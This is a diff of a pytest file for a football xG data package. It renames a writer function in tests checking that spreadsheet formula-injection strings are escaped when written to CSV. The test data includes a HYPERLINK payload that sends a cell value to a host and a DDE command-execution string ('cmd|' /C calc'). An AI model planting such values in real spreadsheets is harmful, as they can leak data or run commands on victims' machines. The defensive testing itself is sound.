@@ -3,7 +3,7 @@
 import pandas as pd
 import pytest
 
-from xgoals.outputs import _write, without_formulas
+from xgoals.outputs import write_table, without_formulas
 
 NAMES = ['=HYPERLINK("http://x"&A1)', "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3", "\tx", "\rx", "\uff1d1+1"]
 HARMLESS = ["O'Neill", "Müller-Wohlfahrt", "", None, "-12", "+0.5", "a=b", "'quoted"]
@@ -12,7 +12,7 @@ HARMLESS = ["O'Neill", "Müller-Wohlfahrt", "", None, "-12", "+0.5", "a=b", "'qu
 def test_text_that_looks_like_a_formula_is_text_and_numbers_are_numbers(tmp_path):
     values = [-1.5 - n for n in range(len(NAMES) + len(HARMLESS))]
     frame = pd.DataFrame({"player": [*NAMES, *HARMLESS], "xg": values, "minute": range(len(values))})
-    assert _write(frame, tmp_path / "shots.csv") == len(frame)
+    assert write_table(frame, tmp_path / "shots.csv") == len(frame)
     back = pd.read_csv(tmp_path / "shots.csv", keep_default_na=False, lineterminator="\n")
     assert back["player"].tolist() == [*(f"'{name}" for name in NAMES), *(name or "" for name in HARMLESS)]
     assert back["xg"].tolist() == values
@@ -27,5 +27,5 @@ def test_every_kind_of_text_column(kind):
 
 
 def test_parquet_keeps_the_names_as_they_are(tmp_path):
-    _write(pd.DataFrame({"player": NAMES}), tmp_path / "shots.parquet")
+    write_table(pd.DataFrame({"player": NAMES}), tmp_path / "shots.parquet")
     assert pd.read_parquet(tmp_path / "shots.parquet")["player"].tolist() == NAMES
